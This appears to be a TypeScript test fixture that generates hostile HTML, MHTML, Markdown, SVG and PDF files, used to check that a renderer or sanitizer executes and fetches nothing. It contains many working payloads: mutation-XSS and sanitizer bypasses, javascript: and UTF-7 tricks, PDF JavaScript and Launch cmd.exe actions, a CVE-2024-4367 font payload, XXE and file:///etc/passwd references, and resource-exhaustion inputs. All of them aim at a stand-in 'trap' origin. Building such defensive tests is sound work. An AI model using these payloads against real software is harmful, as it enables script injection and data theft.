import { firstExtra, makePdf } from './make-pdf.ts';

/** A file that means harm, written for the tests that show that nothing comes of it. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** What the file is taken for; null where it is refused. */
  readonly kind: 'html' | 'mhtml' | 'markdown' | 'pdf' | null;
}

/** The word that every file which is not refused shows: the rest of it means harm. */
export const harmlessWord = 'harmless';

/**
 * Files that try to run, to fetch and to open, in every way we know of. What they run says `harmed()`; what they fetch begins with
 * `trap`, the origin of a server that nobody may ever ask.
 */
export function hostileFiles(trap: string): readonly HostileFile[] {
  const text = (kind: HostileFile['kind'], ending: string, parts: readonly string[]): HostileFile[] =>
    parts.map((content, at) => ({
      name: `${ending}-${String(at + 1).padStart(2, '0')}.${ending}`,
      bytes: new TextEncoder().encode(content),
      kind,
    }));
  return [
    ...text('html', 'html', [...pages(trap), ...wholePages(trap)]),
    ...text('mhtml', 'mht', archives(trap)),
    ...text('markdown', 'md', markdown(trap)),
    ...text(null, 'svg', pictures(trap)),
    ...documents(trap).map((bytes, at): HostileFile => ({
      name: `pdf-${String(at + 1).padStart(2, '0')}.pdf`,
      bytes,
      kind: 'pdf',
    })),
  ];
}

const words = `<h1>${harmlessWord}</h1><p>The vessel lost the ability to steer.</p>`;

/** Markup beside harmless words. */
function pages(trap: string): readonly string[] {
  const run = `harmed();fetch('${trap}/run')`;
  return [
    `<script>${run}</script><script src="${trap}/x.js"></script><script type="module">import '${trap}/m.js'</script>`,
    `<script type="importmap">{"imports":{"a":"${trap}/a.js"}}</script><script type="speculationrules">{"prefetch":[{"urls":["${trap}/s"]}]}</script>`,
    `<img src="${trap}/i.png" srcset="${trap}/i2.png 2x" onerror="${run}"><picture><source srcset="${trap}/p.png"><img src=x onerror="${run}"></picture>`,
    `<svg onload="${run}"><script>${run}</script><image href="${trap}/s.png"/><use href="${trap}/s.svg#a"/><foreignObject><img src=x onerror="${run}"></foreignObject><animate onbegin="${run}" attributeName=x dur=1s /></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
    `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
    `<svg></p><style><a id="</style><img src=1 onerror='${run}'>">`,
    `<template><img src=x onerror="${run}"></template><div><template shadowrootmode="open"><img src="${trap}/shadow.png"></template></div>`,
    `<iframe src="${trap}/f"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><iframe src="javascript:${run}"></iframe><frame src="${trap}/f">`,
    `<object data="${trap}/o" type="text/html"></object><embed src="${trap}/e"><applet code="${trap}/a"></applet><portal src="${trap}/p"></portal>`,
    `<video src="${trap}/v" poster="${trap}/vp" autoplay onloadstart="${run}"><track src="${trap}/t" default></video><audio src="${trap}/au" autoplay></audio>`,
    `<form action="${trap}/form" id=f><input autofocus onfocus="${run}" name=x><button formaction="${trap}/b">b</button><isindex></form><input form=f type=image src="${trap}/ii">`,
    `<a href="javascript:${run}">a</a><a href="&#106;avascript:${run}">b</a><a href="java&#9;script:${run}">c</a><a href="data:text/html,<script>${run}</script>">d</a><a href="vbscript:x" ping="${trap}/ping">e</a>`,
    `<p style="background:url(${trap}/bg);-moz-binding:url(${trap}/b);behavior:url(${trap}/h);width:expression(${run})">x</p><table background="${trap}/tb"><tr><td background="${trap}/td">x</table>`,
    `<style>@import url("${trap}/i.css");@font-face{font-family:x;src:url(${trap}/f.woff)}p{background:image-set("${trap}/is.png" 1x);font-family:x}</style>`,
    `<marquee onstart="${run}">m</marquee><details open ontoggle="${run}"><summary>s</summary></details><p onclick="${run}" onpointerover="${run}" onanimationstart="${run}">p</p>`,
    `<dialog open onclose="${run}">d</dialog><p popover onbeforetoggle="${run}">p</p><button popovertarget=p autofocus onfocus="${run}">b</button>`,
    `<a href="${trap}/prefetched" rel="prefetch">x</a><map name=m><area href="javascript:${run}" coords="0,0,9,9"></map><img usemap="#m">`,
    `<xmp><img src=x onerror="${run}"></xmp><plaintext><script>${run}</script>`,
    `<textarea><p title="</textarea><img src=x onerror='${run}'>"></textarea><title><img src=x onerror="${run}"></title>`,
    `<select><style><img src=x onerror="${run}"></select><option><script>${run}</script>`,
    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhhcm1lZCgpIi8+"><img src="data:text/html,<script>${run}</script>">`,
    `<p id="__proto__" name="constructor">x</p><a id=location href="${trap}">x</a><p class="${'a '.repeat(20_000)}">x</p>`,
    `${'<b><i><a href=x>'.repeat(300)}x`,
    `${'<table><tr><td>'.repeat(100)}x`,
  ].map((harm) => `<!doctype html><title>Page</title>${words}${harm}`);
}

/** Pages that mean harm as a whole: in their head, or by what they are. */
function wholePages(trap: string): readonly string[] {
  const run = `harmed();fetch('${trap}/run')`;
  const links = [
    'stylesheet',
    'preload',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'modulepreload',
    'manifest',
    'icon',
    'import',
  ];
  return [
    `<!doctype html><head>${links.map((rel) => `<link rel="${rel}" href="${trap}/${rel}" as="script">`).join('')}<base href="${trap}/" target="_top"></head>${words}<img src="relative.png">`,
    `<!doctype html><meta http-equiv="refresh" content="0;url=${trap}/refresh"><meta http-equiv="set-cookie" content="a=b"><meta http-equiv="content-security-policy" content="default-src *">${words}`,
    `<!doctype html><html onload="${run}"><body onload="${run}" onpageshow="${run}" background="${trap}/body">${words}</body></html>`,
    `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "${trap}/entity"><!ENTITY y "${harmlessWord}">]><html xmlns="http://www.w3.org/1999/xhtml"><body>${words}&x;<script>${run}</script></body></html>`,
    `<!doctype html><script type="application/ld+json">{"__proto__":{"harmed":true},"@type":"Article","headline":"<img src=x onerror=${run}>","url":"javascript:${run}","author":"<script>${run}</script>"}</script>${words}`,
    `<!doctype html><title></title><script>${run}</script></title><meta property="og:title" content="&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;">${words}`,
    `<html><body>${words}<frameset onload="${run}"><frame src="${trap}/frame"></frameset><noframes><img src=x onerror="${run}"></noframes></html>`,
    `<meta charset="utf-7">${words}+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  ];
}

function archives(trap: string): readonly string[] {
  const run = `harmed();fetch('${trap}/run')`;
  const archive = (page: string, ...parts: readonly string[]): string =>
    [
      'MIME-Version: 1.0',
      `Snapshot-Content-Location: javascript:${run}`,
      'Content-Type: multipart/related; type="text/html"; boundary="x"',
      '',
      '--x',
      `Content-Type: text/html\r\nContent-Location: ${trap}/page-${page.length}\r\n\r\n${words}${page}`,
      ...parts.flatMap((part) => ['--x', part]),
      '--x--',
    ].join('\r\n');
  return [
    archive(
      '<script src="cid:s@x"></script><iframe src="cid:f@x"></iframe><link rel=stylesheet href="cid:c@x">',
      `Content-Type: text/javascript\r\nContent-ID: <s@x>\r\n\r\n${run}`,
      `Content-Type: text/html\r\nContent-ID: <f@x>\r\n\r\n<script>${run}</script>`,
      `Content-Type: text/css\r\nContent-ID: <c@x>\r\n\r\n@import "${trap}/c.css"`,
    ),
    archive(
      '<img src="cid:i@x"><img src="/j.png">',
      `Content-Type: image/svg+xml\r\nContent-ID: <i@x>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
      `Content-Type: image/png"onerror="${run}\r\nContent-Location: ${trap}/j.png\r\n\r\nx`,
    ),
    archive(
      `<img src="file:///etc/passwd"><img src="//${trap.replace(/^https?:\/\//, '')}/i.png"><base href="${trap}/">`,
    ),
  ];
}

function markdown(trap: string): readonly string[] {
  const run = `harmed();fetch('${trap}/run')`;
  return [
    `# ${harmlessWord}\n\n<script>${run}</script>\n\n<img src=x onerror="${run}">\n\n![i](${trap}/i.png "t")\n`,
    `# ${harmlessWord}\n\n[a](javascript:${run}) [b](<data:text/html,x>) <javascript:${run}> [c]\n\n[c]: javascript:x "t"\n\n![](${trap}/i.png)\n`,
    `---\ntitle: <script>${run}</script>\nurl: javascript:${run}\nauthor: [<img src=x onerror=${run}>]\n__proto__: x\n---\n# ${harmlessWord}\n`,
    `# ${harmlessWord}\n\n<iframe src="${trap}/f"></iframe>\n<details open ontoggle="${run}">\n\nx\n\n<style>@import "${trap}/c.css"</style>\n`,
    `# ${harmlessWord}\n\n${'> '.repeat(100)}x\n\n${'['.repeat(1000)}\n\n${'*a_'.repeat(1000)}\n`,
  ];
}

function pictures(trap: string): readonly string[] {
  return [
    `<svg xmlns="http://www.w3.org/2000/svg" onload="harmed()"><script>harmed()</script><image href="${trap}/i.png"/></svg>`,
    `<?xml version="1.0"?><?xml-stylesheet href="${trap}/x.css"?><!DOCTYPE svg PUBLIC "x" "${trap}/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${trap}/f"/></foreignObject></svg>`,
  ];
}

function documents(trap: string): readonly Uint8Array[] {
  const lines = [harmlessWord, 'The vessel lost the ability to steer.'];
  const js = `<< /S /JavaScript /JS (app.alert\\('harmed'\\); this.submitForm\\('${trap}/js'\\); app.launchURL\\('${trap}/launch', true\\)) >>`;
  const extra = (...objects: readonly string[]) => objects;
  const ref = (at: number): string => `${String(firstExtra + at)} 0 R`;
  const uri = `<< /S /URI /URI (${trap}/uri) >>`;
  const stream = (dictionary: string, content: string): string =>
    `<< ${dictionary} /Length ${String(content.length)} >>\nstream\n${content}\nendstream`;
  return [
    makePdf({ pages: [lines], catalog: `/OpenAction ${js} /AA << /WC ${js} /DP ${js} >>`, page: `/AA << /O ${js} >>` }),
    makePdf({ pages: [lines], extra: extra(js), catalog: `/Names << /JavaScript << /Names [(a) ${ref(0)}] >> >>` }),
    makePdf({ pages: [lines], catalog: `/OpenAction ${uri}`, page: `/AA << /O ${uri} /C ${uri} >>` }),
    makePdf({
      pages: [lines],
      extra: extra(
        `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) /Next ${js} >> >>`,
        `<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 595 842] /AA << /E ${js} /PO ${js} /Fo ${js} >> /A << /S /SubmitForm /F (${trap}/submit) >> >>`,
        `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F (${trap}/remote.pdf) >> /D [0 /Fit] >> >>`,
      ),
      page: `/Annots [${ref(0)} ${ref(1)} ${ref(2)}]`,
      catalog: `/AcroForm << /Fields [${ref(1)}] /CO [${ref(1)}] >>`,
    }),
    makePdf({
      pages: [lines],
      extra: extra(
        stream(
          '',
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("${trap}/xfa")</script></event><draw><value><image href="${trap}/xfa.png"/></value></draw></subform></template></xdp:xdp>`,
        ),
      ),
      catalog: `/AcroForm << /XFA ${ref(0)} /Fields [] >> /NeedsRendering true`,
    }),
    // A font whose matrix was once pasted into a function (CVE-2024-4367).
    makePdf({
      pages: [lines],
      extra: extra(
        `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontMatrix [1 2 3 4 5 (0\\); harmed\\(\\)//)] /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor ${ref(1)} >>`,
        `<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1 1] /Ascent 1 /Descent 0 /ItalicAngle 0 /CapHeight 1 /StemV 1 >>`,
      ),
      page: `/Resources << /Font << /F 3 0 R /E ${ref(0)} >> >>`,
    }),
    // What a stream is stands elsewhere; a map of characters is to be fetched.
    makePdf({
      pages: [lines],
      extra: extra(
        `<< /Length 0 /F << /FS /URL /F (${trap}/stream) >> /FFilter /FlateDecode >>\nstream\n\nendstream`,
        `<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /${trap.replace(/\W/g, '-')} /DescendantFonts [${ref(2)}] >>`,
        '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (..\\/..\\/x) /Ordering (y) /Supplement 0 >> >>',
      ),
      page: `/Resources << /Font << /F 3 0 R /X ${ref(1)} >> >>`,
    }),
    makePdf({
      pages: [lines],
      info: `/Title (<img src=x onerror=harmed\\(\\)>) /Author (javascript:harmed\\(\\))`,
      catalog: `/URI << /Base (${trap}/) >>`,
    }),
    makePdf({
      pages: [lines],
      extra: extra(`<< /Type /Pages /Kids [${ref(0)} 2 0 R] /Count 999999999 >>`),
      catalog: `/PageLabels ${ref(0)} /Outlines ${ref(0)}`,
    }),
  ];
}
